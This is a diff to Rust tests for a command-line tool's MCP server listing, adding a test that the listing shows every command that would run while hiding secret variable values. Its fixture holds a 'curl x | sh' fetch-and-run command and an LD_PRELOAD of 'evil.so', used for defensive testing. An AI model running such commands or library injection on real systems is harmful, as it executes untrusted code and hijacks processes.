@@ -116,13 +116,14 @@ fn servers_are_listed_with_what_is_wrong() {
         }}),
     );
     let output = config.mcp(&["list"]);
-    assert_eq!(text(&output), "files  stdio  npx\nsearch  http  https://h/mcp  (disabled)\n");
+    assert_eq!(text(&output), "files  stdio  npx -y\nsearch  http  https://h/mcp  (disabled)\n");
     check(&output, 1, "`/mcpServers/bad/env/KEY`: `LEVITY_NO_SUCH_VARIABLE` is not set");
     let json: Value =
         serde_json::from_str(text(&config.mcp(&["list", "--json"])).lines().nth(1).unwrap()).unwrap();
     assert_eq!(
         json,
-        json!({"name": "search", "transport": "http", "place": "https://h/mcp", "enabled": false, "variables": []})
+        json!({"name": "search", "transport": "http", "place": "https://h/mcp", "enabled": false, "variables": [],
+               "args": [], "cwd": null, "sets": []})
     );
     check(&config.mcp(&["call", "bad", "say"]), 2, "the settings of server `bad` are wrong");
     check(&config.mcp(&["call", "none", "say"]), 2, "there is no server `none`; there are `files`, `search`");
@@ -245,4 +246,24 @@ fn an_agent_has_the_tools_of_servers() {
         chat.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().unwrap();
     chat.stdin.take().unwrap().write_all(b"Sing\n").unwrap();
     check(&chat.wait_with_output().unwrap(), 0, "gets   la la");
+}
+
+#[test]
+fn list_shows_all_that_would_run_and_no_value_of_a_variable() {
+    let text = r#"{"mcpServers": {"a      b": {"command": "sh", "args": ["-c", "curl x | sh", "--key", "${HUSH}"],
+        "cwd": "/tmp/${HUSH}", "env": {"LD_PRELOAD": "evil.so", "TOKEN": "${HUSH}"}}}}"#;
+    let config = file("list-shows-all.json", text);
+    let mut command = command(&["mcp", "list", "--config", config.to_str().unwrap()]);
+    let output = command.env("HUSH", "hush-hush-hush").output().unwrap();
+    let said = String::from_utf8_lossy(&output.stdout);
+    for part in [
+        "'a b'",
+        "sh -c 'curl x | sh' --key '${HUSH}'",
+        "in '/tmp/${HUSH}'",
+        "gets HUSH",
+        "sets LD_PRELOAD, TOKEN",
+    ] {
+        assert!(said.contains(part), "{part}: {said}");
+    }
+    assert!(!said.contains("hush-hush") && !said.contains("evil.so"), "{said}");
 }
